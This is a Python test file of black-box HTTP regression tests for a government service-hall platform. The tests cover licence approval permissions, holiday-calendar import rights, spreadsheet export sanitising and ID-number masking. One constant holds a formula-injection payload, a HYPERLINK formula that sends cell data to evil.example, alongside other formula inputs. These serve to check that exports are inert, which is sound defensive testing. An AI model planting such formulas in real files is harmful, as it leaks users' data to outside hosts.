"""Black-box replays of rows 3, 4, 10 and 11 through real HTTP against a served demo deployment
(``yiwang serve`` on SQLite, seeded exactly as ``make run`` does), as the outside tester ran them."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import time

import httpx
import pytest
from openpyxl import load_workbook

from yiwang.core.spreadsheet import RISKY_FIRST
from yiwang.demo import DEMO_PASSWORD, PERSON

pytestmark = pytest.mark.slow

PERSON_ID = PERSON[1]
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
EVIL_DEPT = '=HYPERLINK("http://evil.example/?d="&A1,"查看详情")'


def api_login(c: httpx.Client, username: str) -> dict[str, str]:
    r = c.post("/api/v1/auth/login", json={"username": username, "password": DEMO_PASSWORD})
    assert r.status_code == 200, r.text
    return {"Authorization": f"Bearer {r.json()['access_token']}"}


def token_of(c: httpx.Client, url: str) -> str:
    page = c.get(url)
    assert page.status_code == 200, (url, page.status_code, page.text[:300])
    m = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
    assert m, url
    return m.group(1)


def post(c: httpx.Client, url: str, **kwargs: object) -> httpx.Response:
    """POST, retrying while the embedded SQLite deployment answers 503 busy (Retry-After), as a client should."""
    for _ in range(10):
        r = c.post(url, **kwargs)  # type: ignore[arg-type]
        if r.status_code != 503:
            return r
        time.sleep(float(r.headers.get("Retry-After", "1")))
    return r


def page_login(c: httpx.Client, login: str) -> None:
    r = c.post("/staff/login", data={"username": login, "password": DEMO_PASSWORD,
                                     "csrf_token": token_of(c, "/staff/login")})
    assert r.status_code == 303, r.text[:300]


def item_code(c: httpx.Client, name: str) -> str:
    items = c.get("/api/v1/items", params={"q": name, "region": "440104"}).json()["items"]
    return next(i["code"] for i in items if i["name"] == name)


def file_at_window(c: httpx.Client, clerk: dict[str, str], code: str) -> str:
    guide = c.get(f"/api/v1/items/{code}").json()
    materials = []
    for m in guide["materials"]:
        r = c.post("/api/v1/files", files={"file": (f"{m['name']}.pdf", PDF + m["name"].encode(), "application/pdf")},
                   headers=clerk)
        assert r.status_code == 201, r.text
        materials.append({"name": m["name"], "file_id": r.json()["file_id"]})
    r = c.post("/api/v1/cases", headers=clerk, json={
        "item_code": code, "applicant_code": PERSON_ID, "materials": materials,
        "form": {"contact_name": PERSON[0], "contact_phone": PERSON[2], "description": "窗口代为申请"}})
    assert r.status_code == 201, r.text
    return str(r.json()["case_no"])


def test_row04_window_clerk_cannot_decide_another_departments_licence(demo_server) -> None:  # type: ignore[no-untyped-def]
    with demo_server.client() as c:
        clerk = api_login(c, "clerk")
        wallet = api_login(c, PERSON_ID)
        licences_before = c.get("/api/v1/licenses", headers=wallet).json()["total"]
        # the reported attack: 个体工商户设立登记 (the market department's 即办件, result 营业执照)
        no = file_at_window(c, clerk, item_code(c, "个体工商户设立登记"))
        assert "approve" not in c.get(f"/api/v1/cases/{no}", headers=clerk).json()["allowed_actions"]
        r = c.post(f"/api/v1/cases/{no}/actions", json={"action": "approve"}, headers=clerk)
        assert r.status_code == 409 and r.json()["error"]["code"] == "window_decision_not_allowed", r.text
        r = c.post(f"/api/v1/cases/{no}/actions", json={"action": "accept"}, headers=clerk)
        assert r.status_code == 200 and r.json()["status"] == "accepted"
        r = c.post(f"/api/v1/cases/{no}/actions", json={"action": "approve"}, headers=clerk)
        assert r.status_code in (403, 409), r.text
        assert c.get("/api/v1/licenses", headers=wallet).json()["total"] == licences_before
        # the item the health department lets windows decide on the spot is decided by the clerk at once
        no = file_at_window(c, clerk, item_code(c, "公共场所卫生许可注销"))
        r = c.post(f"/api/v1/cases/{no}/actions", json={"action": "approve"}, headers=clerk)
        assert r.status_code == 200 and r.json()["outcome"] == "approved", r.text
        # the window cannot grant itself the flag
        r = c.post(f"/api/v1/items/{item_code(c, '个体工商户设立登记')}/window-decision",
                   json={"window_may_decide": True}, headers=api_login(c, "admin"))
        assert r.status_code in (403, 404), r.text


def test_row03_district_admin_cannot_replace_the_calendar(demo_server) -> None:  # type: ignore[no-untyped-def]
    days = []
    day = dt.date(2026, 12, 7)
    while day.year == 2026:
        days.append({"name": "假期", "date": day.isoformat(), "isOffDay": True})
        day += dt.timedelta(days=1)
    forged = json.dumps({"year": 2026, "papers": ["forged"], "days": days}).encode()
    with demo_server.client() as c:
        page_login(c, "admin")  # 越秀区 (a district)
        r = c.post("/admin/calendar", data={"csrf_token": token_of(c, "/admin/calendar")},
                   files={"file": ("2026.json", forged, "application/json")})
        assert r.status_code == 403 and "只有平台（最高一级区划）管理员可以导入或替换" in r.text
        r = c.get("/api/v1/workdays/deadline", params={"start": "2026-12-07", "days": 1})
        assert r.status_code == 200 and r.json() == {"deadline": "2026-12-08"}
    with demo_server.client() as c:
        page_login(c, "catalog")  # 广东省: the deployment's top region, but the year is implausible
        r = c.post("/admin/calendar", data={"csrf_token": token_of(c, "/admin/calendar")},
                   files={"file": ("2026.json", forged, "application/json")})
        assert r.status_code == 422 and "不像国务院发布的放假通知" in r.text


def _inert(cells: list[tuple[object, str]]) -> None:
    for value, kind in cells:
        assert kind != "f", value
        assert not (isinstance(value, str) and value.startswith(RISKY_FIRST)), value


def test_row10_exports_do_not_carry_formulas(demo_server) -> None:  # type: ignore[no-untyped-def]
    with demo_server.client() as c:
        page_login(c, "admin")
        r = post(c, "/admin/departments", data={"name": EVIL_DEPT, "region_code": "440104",
                                               "csrf_token": token_of(c, "/admin/departments")})
        assert r.status_code == 303, r.text[:300]
        record = {"code": "11440104MB2C99999X44401009990000", "name": "=1+1 测试事项", "department": EVIL_DEPT,
                  "item_type": "01", "region_code": "440104", "materials": [{"name": "@SUM(1+1)"}]}
        r = post(c, "/admin/catalog/import", data={"csrf_token": token_of(c, "/admin/catalog/import")},
                   files={"file": ("evil.jsonl", json.dumps(record, ensure_ascii=False).encode(), "application/json")})
        assert r.status_code == 200, r.text[:500]
        r = c.get("/admin/catalog/export.xlsx", timeout=300)
        assert r.status_code == 200
        wb = load_workbook(io.BytesIO(r.content))
        cells = [(cell.value, cell.data_type) for ws in wb.worksheets for row in ws.iter_rows() for cell in row
                 if cell.value is not None]
        assert ("'" + EVIL_DEPT, "s") in cells
        _inert(cells)
    with demo_server.client() as c:
        page_login(c, "supervisor")
        r = c.get("/console/scores", params={"format": "csv"})
        assert r.status_code == 200
        _inert([(v, "s") for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for v in row])
        r = c.get("/console/scores", params={"format": "xlsx"})
        assert r.status_code == 200
        wb = load_workbook(io.BytesIO(r.content))
        _inert([(cell.value, cell.data_type) for ws in wb.worksheets for row in ws.iter_rows() for cell in row
                if cell.value is not None])


def test_row11_admins_neither_search_by_nor_see_full_id_numbers(demo_server) -> None:  # type: ignore[no-untyped-def]
    masked = PERSON_ID[:4] + "*" * 10 + PERSON_ID[-4:]
    with demo_server.client() as c:
        for login in ("admin", "catalog", "supervisor"):
            headers = api_login(c, login)
            r = c.get("/api/v1/licenses", params={"q": PERSON_ID}, headers=headers)
            assert r.status_code == 403 and r.json()["error"]["code"] == "holder_search_forbidden", (login, r.text)
            r = c.get("/api/v1/licenses", params={"limit": 200}, headers=headers)
            assert r.status_code == 200 and PERSON_ID not in r.text, login
            assert masked in r.text, login
        # the issuing department's handler still finds the holder's licences by the number
        r = c.get("/api/v1/licenses", params={"q": PERSON_ID}, headers=api_login(c, "handler"))
        assert r.status_code == 200 and r.json()["total"] >= 1 and PERSON_ID in r.text
